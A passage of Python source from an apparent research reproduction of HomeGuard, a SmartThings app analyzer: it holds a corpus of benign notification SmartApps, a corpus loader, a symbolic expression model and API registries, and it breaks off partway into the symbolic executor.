        op, limit = threshold
        subscribe = f'subscribe(sensor1, "{attribute}", eventHandler)'
        body = f'''    def reading = evt.value.toInteger()
    if (reading {op} limit) {{
        def msg = "${{sensor1.displayName}} {attribute} is ${{evt.value}}"
        {send}
    }}'''
        values = {"limit": limit}
    limit_input = (
        '\n    input "limit", "number", title: "Threshold"' if threshold else ""
    )
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Notify about {attribute} events")

preferences {{
    input "sensor1", "{sensor_cap}"{limit_input}{phone_input}
}}

def installed() {{ {subscribe} }}
def updated() {{ unsubscribe(); {subscribe} }}

def eventHandler(evt) {{
{body}
}}
'''
    if channel == "sms":
        values["phone1"] = "+15550100"
    return CorpusApp(
        name=name,
        kind="notification",
        category="other",
        description=f"{name}: {attribute} notification.",
        type_hints={"sensor1": sensor_type},
        values=values,
        source=source,
    )


def _digest_app(name: str, mechanism: str, what: str) -> CorpusApp:
    if mechanism == "schedule":
        time_input = '\n    input "digestTime", "time", title: "Send at"'
        install = "schedule(digestTime, sendDigest)"
        values: dict[str, object] = {"digestTime": 28800}
    else:
        time_input = ""
        install = f"{mechanism}(sendDigest)"
        values = {}
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Periodic {what} notification")

preferences {{
    input "devices", "capability.sensor", multiple: true{time_input}
}}

def installed() {{ {install} }}
def updated() {{ unschedule(); {install} }}

def sendDigest() {{
    sendPush("Scheduled {what} from your smart home")
}}
'''
    return CorpusApp(
        name=name,
        kind="notification",
        category="other",
        description=f"{name}: periodic {what}.",
        type_hints={},
        values=values,
        source=source,
    )


def _mode_notify_app(name: str, mode: str | None) -> CorpusApp:
    if mode is None:
        body = '    sendPush("Home mode changed to ${evt.value}")'
        values: dict[str, object] = {}
    else:
        body = f'''    if (evt.value == watchedMode) {{
        sendPush("Home mode is now ${{evt.value}}")
    }}'''
        values = {"watchedMode": mode}
    mode_input = (
        '\n    input "watchedMode", "mode", title: "Which mode?"'
        if mode is not None
        else ""
    )
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Notify when the home changes mode")

preferences {{
    input "anything", "capability.sensor", required: false{mode_input}
}}

def installed() {{ subscribe(location, "mode", modeHandler) }}
def updated() {{ unsubscribe(); subscribe(location, "mode", modeHandler) }}

def modeHandler(evt) {{
{body}
}}
'''
    return CorpusApp(
        name=name,
        kind="notification",
        category="other",
        description=f"{name}: mode notification.",
        type_hints={},
        values=values,
        source=source,
    )


# A handful of richer, hand-written notification apps.

_HANDWRITTEN = [
    CorpusApp(
        name="LaundryMonitor",
        kind="notification",
        category="other",
        description="Notifies when the washer power profile indicates done.",
        type_hints={"meter1": "powerMeter"},
        values={"midWatts": 250, "phone1": "+15550100"},
        source='''
definition(name: "LaundryMonitor", namespace: "repro", author: "hg",
    description: "Text me when the laundry is done")

preferences {
    input "meter1", "capability.powerMeter", title: "Washer outlet meter"
    input "midWatts", "number", title: "Running above (W)"
    input "phone1", "phone", title: "Phone number"
}

def installed() { subscribe(meter1, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter1, "power", powerHandler) }

def powerHandler(evt) {
    def w = evt.value.toInteger()
    if (w > midWatts) {
        state.running = true
    } else if (state.running) {
        state.running = false
        sendSms(phone1, "The laundry is done!")
    }
}
''',
    ),
    CorpusApp(
        name="LeftItOpen",
        kind="notification",
        category="other",
        description="Notifies when a door stays open too long.",
        type_hints={"contact1": "contactSensor"},
        values={"openMinutes": 10},
        source='''
definition(name: "LeftItOpen", namespace: "repro", author: "hg",
    description: "Notify me when the door is left open")

preferences {
    input "contact1", "capability.contactSensor"
    input "openMinutes", "number", title: "Open longer than (minutes)"
}

def installed() { initialize() }
def updated() { unsubscribe(); unschedule(); initialize() }

def initialize() {
    subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        runIn(openMinutes * 60, checkStillOpen)
    }
}

def checkStillOpen() {
    if (contact1.currentContact == "open") {
        sendPush("${contact1.displayName} has been open too long")
    }
}
''',
    ),
    CorpusApp(
        name="SunsetReminder",
        kind="notification",
        category="other",
        description="Push reminder at sunset.",
        type_hints={},
        source='''
definition(name: "SunsetReminder", namespace: "repro", author: "hg",
    description: "Remind me at sunset")

preferences {
    input "anything", "capability.sensor", required: false
}

def installed() { subscribe(location, "sunset", sunsetHandler) }
def updated() { unsubscribe(); subscribe(location, "sunset", sunsetHandler) }

def sunsetHandler(evt) {
    sendPush("The sun has set — time to close up the house")
}
''',
    ),
    CorpusApp(
        name="BatteryLowWatch",
        kind="notification",
        category="other",
        description="Scheduled low-battery report across devices.",
        type_hints={"sensors": "motionSensor"},
        values={"minBattery": 20},
        source='''
definition(name: "BatteryLowWatch", namespace: "repro", author: "hg",
    description: "Warn about low batteries once a day")

preferences {
    input "sensors", "capability.battery", multiple: true
    input "minBattery", "number", title: "Warn below (%)"
    input "checkTime", "time", title: "Check at"
}

def installed() { schedule(checkTime, checkBatteries) }
def updated() { unschedule(); schedule(checkTime, checkBatteries) }

def checkBatteries() {
    def level = sensors.currentBattery
    if (level < minBattery) {
        sendPush("A device battery is below ${minBattery}%")
    }
}
''',
    ),
    CorpusApp(
        name="SevereWeatherAlert",
        kind="notification",
        category="other",
        description="Polls the weather API and notifies about alerts.",
        type_hints={},
        values={"zip1": "19122"},
        source='''
definition(name: "SevereWeatherAlert", namespace: "repro", author: "hg",
    description: "Push severe weather alerts for your zip code")

preferences {
    input "zip1", "text", title: "Zip code"
}

def installed() { runEvery30Minutes(checkWeather) }
def updated() { unschedule(); runEvery30Minutes(checkWeather) }

def checkWeather() {
    def alerts = getWeatherFeature("alerts", zip1)
    if (alerts) {
        sendPush("Severe weather alert in ${zip1}")
    }
}
''',
    ),
    CorpusApp(
        name="CurfewCheck",
        kind="notification",
        category="other",
        description="Texts if the teen is not home by curfew.",
        type_hints={"teen": "presenceSensor"},
        values={"curfew": 79200, "phone1": "+15550100"},
        source='''
definition(name: "CurfewCheck", namespace: "repro", author: "hg",
    description: "Text me if someone is not home by curfew")

preferences {
    input "teen", "capability.presenceSensor", title: "Whose presence?"
    input "curfew", "time", title: "Curfew time"
    input "phone1", "phone", title: "Phone"
}

def installed() { schedule(curfew, curfewCheck) }
def updated() { unschedule(); schedule(curfew, curfewCheck) }

def curfewCheck() {
    if (teen.currentPresence == "not present") {
        sendSms(phone1, "Curfew check: not home yet")
    }
}
''',
    ),
    CorpusApp(
        name="GoodMorningSunshine",
        kind="notification",
        category="other",
        description="Greets on first morning motion.",
        type_hints={"motion1": "motionSensor"},
        source='''
definition(name: "GoodMorningSunshine", namespace: "repro", author: "hg",
    description: "Send a greeting on the first motion of the morning")

preferences {
    input "motion1", "capability.motionSensor"
}

def installed() { initialize() }
def updated() { unsubscribe(); unschedule(); initialize() }

def initialize() {
    subscribe(motion1, "motion.active", firstMotion)
    runEvery1Hour(resetFlag)
}

def firstMotion(evt) {
    if (!state.greeted) {
        state.greeted = true
        sendPush("Good morning! The house is waking up.")
    }
}

def resetFlag() {
    state.greeted = false
}
''',
    ),
]


def notification_only_apps() -> list[CorpusApp]:
    """All 56 notification-only apps."""
    apps: list[CorpusApp] = []
    apps.extend(_event_notify_app(*v) for v in _NOTIFY_VARIANTS)
    apps.extend(_digest_app(*v) for v in _DIGEST_VARIANTS)
    apps.extend(_mode_notify_app(*v) for v in _MODE_NOTIFY_VARIANTS)
    apps.extend(_HANDWRITTEN)
    return apps
