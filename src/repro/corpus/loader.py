"""Corpus assembly and lookup.

Population structure (matching paper §VIII-B):

* 182 repository apps = 146 automation + 36 Web-Services,
* of the 146 automation apps, 90 control devices and 56 only notify,
* plus the 5 demo apps (Rules 1-5) and 18 malicious apps (Table III).
"""

from __future__ import annotations

from functools import lru_cache

from repro.corpus.benign import HANDWRITTEN_APPS
from repro.corpus.demo_apps import DEMO_APPS
from repro.corpus.generated import generated_device_apps
from repro.corpus.malicious import MALICIOUS_APPS
from repro.corpus.model import CorpusApp
from repro.corpus.notifications import notification_only_apps
from repro.corpus.webservice import webservice_only_apps


@lru_cache(maxsize=1)
def device_controlling_apps() -> tuple[CorpusApp, ...]:
    """The 90 device-controlling repository apps (Fig. 8 population)."""
    return tuple(HANDWRITTEN_APPS) + tuple(generated_device_apps())


@lru_cache(maxsize=1)
def notification_apps() -> tuple[CorpusApp, ...]:
    """The 56 notification-only repository apps."""
    return tuple(notification_only_apps())


@lru_cache(maxsize=1)
def automation_apps() -> tuple[CorpusApp, ...]:
    """All 146 automation apps (device-controlling + notification-only)."""
    return device_controlling_apps() + notification_apps()


@lru_cache(maxsize=1)
def webservice_apps() -> tuple[CorpusApp, ...]:
    """The 36 Web-Services apps (excluded from rule extraction)."""
    return tuple(webservice_only_apps())


@lru_cache(maxsize=1)
def malicious_apps() -> tuple[CorpusApp, ...]:
    """The 18 malicious apps of Table III."""
    return tuple(MALICIOUS_APPS)


@lru_cache(maxsize=1)
def demo_apps() -> tuple[CorpusApp, ...]:
    """The 5 demonstration apps implementing Rules 1-5."""
    return tuple(DEMO_APPS)


@lru_cache(maxsize=1)
def all_apps() -> tuple[CorpusApp, ...]:
    """Everything: repository + web services + demo + malicious."""
    return (
        automation_apps() + webservice_apps() + demo_apps() + malicious_apps()
    )


@lru_cache(maxsize=1)
def _index() -> dict[str, CorpusApp]:
    apps = {}
    for app in all_apps():
        if app.name in apps:
            raise ValueError(f"duplicate corpus app name: {app.name}")
        apps[app.name] = app
    return apps


def app_by_name(name: str) -> CorpusApp:
    try:
        return _index()[name]
    except KeyError:
        raise KeyError(f"no corpus app named {name!r}") from None
