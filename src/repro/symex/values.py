"""Symbolic value/expression model.

The symbolic executor labels data whose values are not dependent on
other data as *symbolic inputs* (paper §V-B): device references, device
attribute values, device events, user inputs, HTTP responses, constants
and modeled API return values.  All expressions built over them are
represented by the immutable tree types below; rule conditions are
quantifier-free first-order formulas over this language.

Every node serializes to and from plain JSON (a tagged-union encoding)
so rules can be stored on the HomeGuard backend (~6 KB per app, paper
§VIII-C) and shipped to the companion app.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

_COMPARISONS = {"==", "!=", "<", "<=", ">", ">="}
_ARITHMETIC = {"+", "-", "*", "/", "%", "**"}
_LOGICAL = {"&&", "||"}


@dataclass(frozen=True, slots=True)
class SymExpr:
    """Base class for symbolic expressions."""

    def children(self) -> tuple["SymExpr", ...]:
        return ()

    def walk(self):
        yield self
        for child in self.children():
            yield from child.walk()


@dataclass(frozen=True, slots=True)
class Const(SymExpr):
    """A literal constant (int, float, str, bool or None)."""

    value: Any

    def __str__(self) -> str:
        return repr(self.value)


@dataclass(frozen=True, slots=True)
class DeviceRef(SymExpr):
    """A device reference bound through an ``input`` declaration.

    ``name`` is the in-app variable name; ``capability`` the requested
    capability string; ``multiple`` marks list-valued inputs.
    """

    name: str
    capability: str
    multiple: bool = False

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True, slots=True)
class DeviceAttr(SymExpr):
    """The current value of a device attribute (``#DevState`` in the
    paper's Table II)."""

    device: DeviceRef
    attribute: str

    def children(self) -> tuple[SymExpr, ...]:
        return (self.device,)

    def __str__(self) -> str:
        return f"{self.device.name}.{self.attribute}"


@dataclass(frozen=True, slots=True)
class UserInput(SymExpr):
    """A non-device user input (number, enum, text, time, ...)."""

    name: str
    input_type: str

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True, slots=True)
class LocalVar(SymExpr):
    """A local variable occurrence inside a predicate.

    Predicates keep the paper's named form (``t > threshold1``); the
    accompanying data constraints record each version's definition, and
    the constraint builder reconnects them via equality.  ``version``
    disambiguates reassignments along a path (SSA-style).
    """

    name: str
    version: int = 0

    @property
    def display_name(self) -> str:
        return self.name

    @property
    def key(self) -> str:
        if self.version == 0:
            return self.name
        return f"{self.name}#{self.version}"

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True, slots=True)
class EventValue(SymExpr):
    """The value carried by the triggering event."""

    def __str__(self) -> str:
        return "evt.value"


@dataclass(frozen=True, slots=True)
class EventAttr(SymExpr):
    """A non-value event property (``evt.name``, ``evt.displayName``)."""

    attribute: str

    def __str__(self) -> str:
        return f"evt.{self.attribute}"


@dataclass(frozen=True, slots=True)
class StateVal(SymExpr):
    """A ``state``/``atomicState`` slot shared across executions."""

    name: str

    def __str__(self) -> str:
        return f"state.{self.name}"


@dataclass(frozen=True, slots=True)
class LocationAttr(SymExpr):
    """A platform location property (``location.mode`` etc.)."""

    attribute: str

    def __str__(self) -> str:
        return f"location.{self.attribute}"


@dataclass(frozen=True, slots=True)
class TimeVal(SymExpr):
    """A time-dependent symbolic input (``now()``, sunrise, sunset...)."""

    kind: str

    def __str__(self) -> str:
        return f"time.{self.kind}"


@dataclass(frozen=True, slots=True)
class CallExpr(SymExpr):
    """An uninterpreted function application.

    Used for modeled APIs whose return values are fresh symbolic inputs
    (HTTP responses, random numbers, unmodeled helpers).
    """

    function: str
    args: tuple[SymExpr, ...] = ()

    def children(self) -> tuple[SymExpr, ...]:
        return self.args

    def __str__(self) -> str:
        rendered = ", ".join(str(arg) for arg in self.args)
        return f"{self.function}({rendered})"


@dataclass(frozen=True, slots=True)
class BinExpr(SymExpr):
    """A binary operation: comparison, arithmetic or logical."""

    op: str
    left: SymExpr
    right: SymExpr

    def children(self) -> tuple[SymExpr, ...]:
        return (self.left, self.right)

    @property
    def is_comparison(self) -> bool:
        return self.op in _COMPARISONS

    @property
    def is_logical(self) -> bool:
        return self.op in _LOGICAL

    @property
    def is_arithmetic(self) -> bool:
        return self.op in _ARITHMETIC

    def __str__(self) -> str:
        return f"({self.left} {self.op} {self.right})"


@dataclass(frozen=True, slots=True)
class NotExpr(SymExpr):
    """Logical negation."""

    operand: SymExpr

    def children(self) -> tuple[SymExpr, ...]:
        return (self.operand,)

    def __str__(self) -> str:
        return f"!({self.operand})"


@dataclass(frozen=True, slots=True)
class ListVal(SymExpr):
    """A (possibly symbolic) list value."""

    items: tuple[SymExpr, ...] = ()

    def children(self) -> tuple[SymExpr, ...]:
        return self.items

    def __str__(self) -> str:
        return "[" + ", ".join(str(item) for item in self.items) + "]"


@dataclass(frozen=True, slots=True)
class Concat(SymExpr):
    """String concatenation / GString assembly."""

    parts: tuple[SymExpr, ...] = ()

    def children(self) -> tuple[SymExpr, ...]:
        return self.parts

    def __str__(self) -> str:
        return "+".join(str(part) for part in self.parts)


# ----------------------------------------------------------------------
# Convenience constructors and helpers


def conjoin(terms: list[SymExpr]) -> SymExpr | None:
    """AND together a list of formulas (None for the empty list)."""
    result: SymExpr | None = None
    for term in terms:
        result = term if result is None else BinExpr("&&", result, term)
    return result


def negate(expr: SymExpr) -> SymExpr:
    """Logical negation with double-negation elimination and comparison
    flipping, keeping path conditions small."""
    if isinstance(expr, NotExpr):
        return expr.operand
    if isinstance(expr, BinExpr) and expr.is_comparison:
        flipped = {
            "==": "!=",
            "!=": "==",
            "<": ">=",
            "<=": ">",
            ">": "<=",
            ">=": "<",
        }[expr.op]
        return BinExpr(flipped, expr.left, expr.right)
    return NotExpr(expr)


def mentions_event(expr: SymExpr) -> bool:
    """Does the formula reference the triggering event's value?"""
    return any(isinstance(node, (EventValue, EventAttr)) for node in expr.walk())


def device_refs_in(expr: SymExpr) -> list[DeviceRef]:
    """All distinct device references mentioned by the formula."""
    seen: dict[str, DeviceRef] = {}
    for node in expr.walk():
        if isinstance(node, DeviceRef) and node.name not in seen:
            seen[node.name] = node
    return list(seen.values())


# ----------------------------------------------------------------------
# JSON serialization (tagged union)

_NODE_TYPES = {
    "const": Const,
    "device": DeviceRef,
    "attr": DeviceAttr,
    "input": UserInput,
    "local": LocalVar,
    "event": EventValue,
    "eventattr": EventAttr,
    "state": StateVal,
    "location": LocationAttr,
    "time": TimeVal,
    "call": CallExpr,
    "bin": BinExpr,
    "not": NotExpr,
    "list": ListVal,
    "concat": Concat,
}

_TYPE_TAGS = {cls: tag for tag, cls in _NODE_TYPES.items()}


def to_json(expr: SymExpr) -> dict:
    """Encode a symbolic expression as a JSON-able dict."""
    tag = _TYPE_TAGS[type(expr)]
    if isinstance(expr, Const):
        return {"t": tag, "v": expr.value}
    if isinstance(expr, DeviceRef):
        return {
            "t": tag,
            "name": expr.name,
            "capability": expr.capability,
            "multiple": expr.multiple,
        }
    if isinstance(expr, DeviceAttr):
        return {"t": tag, "device": to_json(expr.device), "attribute": expr.attribute}
    if isinstance(expr, UserInput):
        return {"t": tag, "name": expr.name, "inputType": expr.input_type}
    if isinstance(expr, LocalVar):
        return {"t": tag, "name": expr.name, "version": expr.version}
    if isinstance(expr, EventValue):
        return {"t": tag}
    if isinstance(expr, EventAttr):
        return {"t": tag, "attribute": expr.attribute}
    if isinstance(expr, StateVal):
        return {"t": tag, "name": expr.name}
    if isinstance(expr, LocationAttr):
        return {"t": tag, "attribute": expr.attribute}
    if isinstance(expr, TimeVal):
        return {"t": tag, "kind": expr.kind}
    if isinstance(expr, CallExpr):
        return {
            "t": tag,
            "function": expr.function,
            "args": [to_json(arg) for arg in expr.args],
        }
    if isinstance(expr, BinExpr):
        return {
            "t": tag,
            "op": expr.op,
            "left": to_json(expr.left),
            "right": to_json(expr.right),
        }
    if isinstance(expr, NotExpr):
        return {"t": tag, "operand": to_json(expr.operand)}
    if isinstance(expr, ListVal):
        return {"t": tag, "items": [to_json(item) for item in expr.items]}
    if isinstance(expr, Concat):
        return {"t": tag, "parts": [to_json(part) for part in expr.parts]}
    raise TypeError(f"cannot serialize {type(expr).__name__}")


def from_json(data: dict) -> SymExpr:
    """Decode :func:`to_json` output back into a symbolic expression."""
    tag = data["t"]
    if tag == "const":
        return Const(data["v"])
    if tag == "device":
        return DeviceRef(data["name"], data["capability"], data.get("multiple", False))
    if tag == "attr":
        device = from_json(data["device"])
        assert isinstance(device, DeviceRef)
        return DeviceAttr(device, data["attribute"])
    if tag == "input":
        return UserInput(data["name"], data["inputType"])
    if tag == "local":
        return LocalVar(data["name"], data.get("version", 0))
    if tag == "event":
        return EventValue()
    if tag == "eventattr":
        return EventAttr(data["attribute"])
    if tag == "state":
        return StateVal(data["name"])
    if tag == "location":
        return LocationAttr(data["attribute"])
    if tag == "time":
        return TimeVal(data["kind"])
    if tag == "call":
        return CallExpr(
            data["function"], tuple(from_json(arg) for arg in data["args"])
        )
    if tag == "bin":
        return BinExpr(data["op"], from_json(data["left"]), from_json(data["right"]))
    if tag == "not":
        return NotExpr(from_json(data["operand"]))
    if tag == "list":
        return ListVal(tuple(from_json(item) for item in data["items"]))
    if tag == "concat":
        return Concat(tuple(from_json(part) for part in data["parts"]))
    raise ValueError(f"unknown expression tag: {tag!r}")
