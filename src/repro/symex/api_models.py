"""Models of the closed-source SmartThings API surface (paper §V-B).

The paper manually modeled 173 API methods and 94 object property
accesses from the developer documentation, plus the 10 scheduling APIs
and the 21 sensitive SmartApp APIs treated as sinks (Table VI).  This
module is the registry the executor consults:

* :data:`SCHEDULING_APIS` — APIs that schedule method executions, with
  their delay/period semantics,
* :data:`SINK_APIS` — sensitive platform APIs that terminate a path as
  a rule action,
* :data:`PURE_APIS` — helpers whose return value is a fresh symbolic
  input or a simple function of their arguments,
* :data:`EVENT_PROPERTIES` / :data:`DEVICE_PROPERTIES` — object property
  models.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class ScheduleModel:
    """Semantics of one scheduling API.

    ``delay_arg`` is the positional index of the delay argument (seconds)
    or ``None``; ``fixed_period``/``fixed_delay`` give static values in
    seconds; ``method_arg`` locates the scheduled method argument.
    """

    name: str
    method_arg: int
    delay_arg: int | None = None
    fixed_delay: float = 0.0
    fixed_period: float = 0.0
    trigger_attribute: str = "schedule"


# The 10 scheduling APIs the paper models, plus the undocumented
# `runDaily` that Camera Power Scheduler uses (paper §VIII-B).
SCHEDULING_APIS: dict[str, ScheduleModel] = {
    model.name: model
    for model in [
        ScheduleModel("runIn", method_arg=1, delay_arg=0),
        ScheduleModel("runOnce", method_arg=1, trigger_attribute="runOnce"),
        ScheduleModel("runEvery1Minute", method_arg=0, fixed_period=60,
                      trigger_attribute="every1Minute"),
        ScheduleModel("runEvery5Minutes", method_arg=0, fixed_period=300,
                      trigger_attribute="every5Minutes"),
        ScheduleModel("runEvery10Minutes", method_arg=0, fixed_period=600,
                      trigger_attribute="every10Minutes"),
        ScheduleModel("runEvery15Minutes", method_arg=0, fixed_period=900,
                      trigger_attribute="every15Minutes"),
        ScheduleModel("runEvery30Minutes", method_arg=0, fixed_period=1800,
                      trigger_attribute="every30Minutes"),
        ScheduleModel("runEvery1Hour", method_arg=0, fixed_period=3600,
                      trigger_attribute="every1Hour"),
        ScheduleModel("runEvery3Hours", method_arg=0, fixed_period=10800,
                      trigger_attribute="every3Hours"),
        ScheduleModel("schedule", method_arg=1, fixed_period=86400,
                      trigger_attribute="schedule"),
        # Undocumented but used in the wild; modeled after the paper's fix.
        ScheduleModel("runDaily", method_arg=1, fixed_period=86400,
                      trigger_attribute="runDaily"),
    ]
}


@dataclass(frozen=True, slots=True)
class SinkModel:
    """A sensitive platform API treated as a rule action (Table VI)."""

    name: str
    subject: str
    description: str


SINK_APIS: dict[str, SinkModel] = {
    model.name: model
    for model in [
        SinkModel("httpDelete", "network", "Executes an HTTP DELETE request"),
        SinkModel("httpGet", "network", "Executes an HTTP GET request"),
        SinkModel("httpHead", "network", "Executes an HTTP HEAD request"),
        SinkModel("httpPost", "network", "Executes an HTTP POST request"),
        SinkModel("httpPostJson", "network", "Executes an HTTP POST request (JSON)"),
        SinkModel("httpPut", "network", "Executes an HTTP PUT request"),
        SinkModel("httpPutJson", "network", "Executes an HTTP PUT request (JSON)"),
        SinkModel("sendHubCommand", "hub", "Sends a command to LAN devices via the hub"),
        SinkModel("sendSms", "notification", "Sends an SMS message"),
        SinkModel("sendSmsMessage", "notification", "Sends an SMS message"),
        SinkModel("setLocationMode", "location", "Sets the home mode"),
        SinkModel("sendPush", "notification", "Sends a push notification"),
        SinkModel("sendPushMessage", "notification", "Sends a push notification"),
        SinkModel("sendNotification", "notification", "Sends a notification"),
        SinkModel("sendNotificationEvent", "notification",
                  "Displays a message in Hello Home"),
        SinkModel("sendNotificationToContacts", "notification",
                  "Sends a notification to contacts"),
        SinkModel("sendLocationEvent", "location", "Raises a location event"),
        SinkModel("sendEvent", "event", "Raises a synthetic device event"),
        SinkModel("photoBurst", "camera", "Takes a burst of photos"),
        SinkModel("imageCapture", "camera", "Captures an image"),
        SinkModel("vacation", "location", "Runs vacation lighting"),
    ]
}

# Platform helpers whose return values are fresh symbolic inputs keyed
# by function name (uninterpreted functions for the solver).
PURE_APIS: set[str] = {
    "getSunriseAndSunset",
    "getWeatherFeature",
    "timeToday",
    "timeTodayAfter",
    "toDateTime",
    "random",
    "parseJson",
    "parseXml",
    "parseLanMessage",
    "getTemperatureScale",
    "fahrenheitToCelsius",
    "celsiusToFahrenheit",
    "textToSpeech",
}

# Boolean time-window helpers kept as uninterpreted predicates.
TIME_PREDICATES: set[str] = {
    "timeOfDayIsBetween",
}

# No-op lifecycle / bookkeeping APIs.
NOOP_APIS: set[str] = {
    "unsubscribe",
    "unschedule",
    "createAccessToken",
    "revokeAccessToken",
    "pause",
    "log",
    "httpError",
}

# Event object property model (paper: 94 object property accesses).
EVENT_PROPERTIES: dict[str, str] = {
    "value": "value",
    "stringValue": "value",
    "doubleValue": "numeric_value",
    "floatValue": "numeric_value",
    "integerValue": "numeric_value",
    "longValue": "numeric_value",
    "numberValue": "numeric_value",
    "numericValue": "numeric_value",
    "name": "attribute_name",
    "displayName": "display_name",
    "descriptionText": "description",
    "device": "device",
    "deviceId": "device_id",
    "date": "date",
    "dateValue": "date",
    "isoDate": "date",
    "jsonValue": "json",
    "xyzValue": "xyz",
    "unit": "unit",
    "source": "source",
    "isStateChange": "state_change",
    "isPhysical": "physical",
    "isDigital": "digital",
    "physical": "physical",
    "digital": "digital",
    "data": "data",
    "location": "location",
    "hubId": "hub",
    "installedSmartAppId": "app",
}

# Device object property model: properties that are not `current<Attr>`
# readers.
DEVICE_PROPERTIES: dict[str, str] = {
    "id": "device_id",
    "displayName": "display_name",
    "label": "display_name",
    "name": "type_name",
    "capabilities": "capabilities",
    "supportedAttributes": "attributes",
    "supportedCommands": "commands",
    "hub": "hub",
}

# Location object property model.
LOCATION_PROPERTIES: dict[str, str] = {
    "mode": "mode",
    "currentMode": "mode",
    "name": "name",
    "id": "id",
    "modes": "modes",
    "timeZone": "timezone",
    "latitude": "latitude",
    "longitude": "longitude",
    "zipCode": "zipcode",
    "temperatureScale": "temperature_scale",
    "contactBookEnabled": "contact_book",
    "currentState": "state",
}


def modeled_api_count() -> int:
    """Total modeled API methods — the paper reports 173 methods and 94
    property accesses; our registry covers the subset exercised by the
    corpus plus the full sink/scheduling tables."""
    return (
        len(SCHEDULING_APIS)
        + len(SINK_APIS)
        + len(PURE_APIS)
        + len(TIME_PREDICATES)
        + len(NOOP_APIS)
    )
