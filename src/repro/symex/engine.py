"""The symbolic executor for SmartApps (paper §V-B).

The executor performs a depth-first exploration of every execution path
(SmartApps are small, so path explosion is not a concern — the paper
makes the same observation).  Entry points are the lifecycle methods
``installed``/``updated``; along entry-point paths ``subscribe`` calls
register triggers and scheduling APIs register periodic rules.  Event
handlers are then explored with a fresh symbolic event; each
capability-protected command or sensitive platform API encountered is a
sink that terminates one trigger-condition-action rule.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.capabilities.registry import find_command, is_sink_command
from repro.lang import ast_nodes as ast
from repro.lang.parser import parse
from repro.rules.model import Action, Condition, DataConstraint, Rule, RuleSet, Trigger
from repro.symex import api_models
from repro.symex.state import PathState
from repro.symex.values import (
    BinExpr,
    CallExpr,
    Concat,
    Const,
    DeviceAttr,
    DeviceRef,
    EventAttr,
    EventValue,
    ListVal,
    LocalVar,
    LocationAttr,
    NotExpr,
    StateVal,
    SymExpr,
    TimeVal,
    UserInput,
    conjoin,
    negate,
)

# Hard ceilings: SmartApps are tiny, so hitting these indicates a bug or
# an adversarial app rather than a legitimate automation.
_MAX_STATES = 2048
_MAX_CALL_DEPTH = 24
_MAX_LOOP_UNROLL = 3

# Non-device input types rendered as configuration UI elements.
_VALUE_INPUT_TYPES = {
    "number", "decimal", "text", "string", "bool", "boolean", "enum",
    "time", "phone", "contact", "email", "password", "mode", "hub",
    "icon",
}


class SymbolicExecutionError(Exception):
    """Raised when an app cannot be analysed (paper §VIII-B's
    pre-fix failures surface this way in strict mode)."""


@dataclass(frozen=True, slots=True)
class Subscription:
    """One ``subscribe()`` registration discovered at an entry point."""

    subject: str                       # "device" | "location" | "app"
    device: DeviceRef | None
    attribute: str
    value_filter: str | None
    handler: str


@dataclass(frozen=True, slots=True)
class ScheduledEntry:
    """One scheduling-API registration discovered at an entry point."""

    method: str
    attribute: str
    when: float | SymExpr
    period: float | SymExpr


# Sentinel receivers for platform objects. They are SymExpr subclasses so
# they can live in the environment, but they never appear inside rules.
@dataclass(frozen=True, slots=True)
class _Sentinel(SymExpr):
    kind: str


_EVENT = _Sentinel("event")
_STATE = _Sentinel("state")
_LOCATION = _Sentinel("location")
_APP = _Sentinel("app")
_LOG = _Sentinel("log")
_MATH = _Sentinel("math")
_SETTINGS = _Sentinel("settings")


@dataclass(slots=True)
class ExtractionContext:
    """Mutable extraction-wide bookkeeping."""

    subscriptions: dict[tuple, Subscription] = field(default_factory=dict)
    scheduled: dict[tuple, ScheduledEntry] = field(default_factory=dict)
    warnings: list[str] = field(default_factory=list)


class SymbolicExecutor:
    """Extracts the automation rules of one SmartApp."""

    def __init__(
        self,
        module: ast.Module,
        app_name: str = "",
        strict_device_types: bool = False,
    ) -> None:
        self._module = module
        self._app_name = app_name or self._infer_app_name() or "UnnamedApp"
        self._strict = strict_device_types
        self._inputs: dict[str, SymExpr] = {}
        self._defaults: dict[str, object] = {}
        self._ctx = ExtractionContext()
        self._rules: list[Rule] = []
        self._rule_keys: set = set()
        self._current_trigger: Trigger | None = None
        self._current_subscription: Subscription | None = None
        self._state_budget = _MAX_STATES

    # ------------------------------------------------------------------
    # Public API

    @classmethod
    def from_source(cls, source: str, **kwargs) -> "SymbolicExecutor":
        return cls(parse(source), **kwargs)

    def run(self) -> RuleSet:
        """Execute the app symbolically and return its rule set."""
        self._collect_inputs()
        self._run_entry_points()
        for subscription in list(self._ctx.subscriptions.values()):
            self._run_handler(subscription)
        for entry in list(self._ctx.scheduled.values()):
            self._run_scheduled(entry)
        ruleset = RuleSet(
            app_name=self._app_name, rules=list(self._rules), inputs=dict(self._inputs)
        )
        return ruleset

    @property
    def warnings(self) -> list[str]:
        return list(self._ctx.warnings)

    @property
    def app_name(self) -> str:
        return self._app_name

    # ------------------------------------------------------------------
    # Setup passes

    def _infer_app_name(self) -> str | None:
        for stmt in self._module.top_level:
            if not isinstance(stmt, ast.ExprStmt):
                continue
            call = stmt.expr
            if isinstance(call, ast.MethodCall) and call.name == "definition":
                name_expr = call.named_args().get("name")
                if isinstance(name_expr, ast.StringLiteral):
                    return name_expr.value
        return None

    def _collect_inputs(self) -> None:
        """Automatic symbolic input identification: every ``input``
        method call anywhere in the app (paper §V-B)."""
        for node in self._walk_everything():
            if isinstance(node, ast.MethodCall) and node.name == "input":
                self._register_input(node)

    def _walk_everything(self):
        for stmt in self._module.top_level:
            yield from ast.walk(stmt)
        for method in self._module.methods.values():
            yield from ast.walk(method)

    def _register_input(self, call: ast.MethodCall) -> None:
        positional = call.positional_args()
        if len(positional) < 2:
            return
        name_expr, type_expr = positional[0], positional[1]
        if not isinstance(name_expr, ast.StringLiteral):
            return
        if not isinstance(type_expr, ast.StringLiteral):
            return
        name, input_type = name_expr.value, type_expr.value
